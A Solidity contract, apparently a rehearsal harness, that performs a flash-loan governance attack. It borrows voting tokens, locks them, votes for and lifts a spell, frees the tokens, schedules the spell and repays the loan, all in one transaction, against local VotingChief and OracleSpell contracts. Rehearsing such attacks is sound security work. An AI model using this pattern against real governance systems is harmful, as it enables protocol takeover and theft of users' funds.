// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC3156FlashBorrower} from "@openzeppelin/contracts/interfaces/IERC3156FlashBorrower.sol";
import {IERC3156FlashLender} from "@openzeppelin/contracts/interfaces/IERC3156FlashLender.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {OracleSpell} from "./OracleSpell.sol";
import {VotingChief} from "./VotingChief.sol";

/// @title B.Protocol's vote: borrow, lock, vote, lift, free, schedule and repay, in one transaction.
/// @notice For rehearsing attacks, in the order of Maker's own report.
contract ChiefAttack is IERC3156FlashBorrower {
    using SafeERC20 for IERC20;

    bytes32 private constant _CONSENT = keccak256("ERC3156FlashBorrower.onFlashLoan");

    IERC3156FlashLender private immutable _LENDER;
    VotingChief private immutable _CHIEF;
    OracleSpell private immutable _SPELL;

    /// @notice Prepares it.
    /// @param lender Who lends the tokens that vote.
    /// @param chief Where they vote.
    /// @param spell What they vote for.
    constructor(IERC3156FlashLender lender, VotingChief chief, OracleSpell spell) {
        _LENDER = lender;
        _CHIEF = chief;
        _SPELL = spell;
    }

    /// @notice The vote. The fee must be here before.
    /// @param amount What to borrow, in the smallest unit.
    function attack(uint256 amount) external {
        _LENDER.flashLoan(this, address(_CHIEF.TOKEN()), amount, "");
    }

    /// @inheritdoc IERC3156FlashBorrower
    function onFlashLoan(
        address,
        address token,
        uint256 amount,
        uint256 fee,
        bytes calldata
    ) external returns (bytes32) {
        IERC20(token).forceApprove(address(_CHIEF), amount);
        _CHIEF.lock(amount);
        _CHIEF.vote(address(_SPELL));
        _CHIEF.lift(address(_SPELL));
        _CHIEF.free(amount);
        _SPELL.schedule();
        IERC20(token).forceApprove(address(_LENDER), amount + fee);
        return _CONSENT;
    }
}
